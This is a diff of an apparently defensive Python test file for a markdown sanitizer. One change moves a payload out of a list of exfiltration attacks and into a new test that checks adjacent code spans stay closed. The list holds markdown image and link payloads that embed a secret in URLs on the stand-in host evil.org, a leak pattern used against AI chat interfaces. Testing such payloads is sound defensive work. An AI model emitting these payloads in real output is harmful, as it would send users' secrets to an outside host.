@@ -94,7 +94,6 @@ ATTACKS = [
     f"# ![x](https://evil.org/{SECRET})\n- ![x](https://evil.org/{SECRET})\n> [x](https://evil.org/{SECRET})",
     f"`` ` ``![x](https://evil.org/{SECRET})`",
     f"```mermaid\ngraph LR; A-->B[<img src='x'>]\n```\n![x](https://evil.org/{SECRET})",
-    f"www.evil.org`![x](https://evil.org/{SECRET})`www.evil.org",
     f"a ```www.evil.org/{SECRET}",
     f"![x](https://evil.org/?q={SECRET})```www.evil.org/{SECRET}",
     f"~~~\n```\n~~~\n![x](https://evil.org/{SECRET})",
@@ -153,6 +152,10 @@ def test_an_address_is_shown_by_its_host() -> None:
 def test_d27_control_characters_are_out() -> None:
     assert message("a\x1b[31mred\x07\x00 \u202eb\u2066c\U000e0041") == "a[31mred bc"
     assert shown("") == shown(" \n\n ") == ()
+
+
+def test_d27_code_spans_side_by_side_stay_closed() -> None:
+    assert rendered("www.evil.org`![x](https://evil.org/y)`www.evil.org").elements == {"p", "code"}
 
 
 def test_d27_a_message_has_no_links_of_a_notification() -> None:
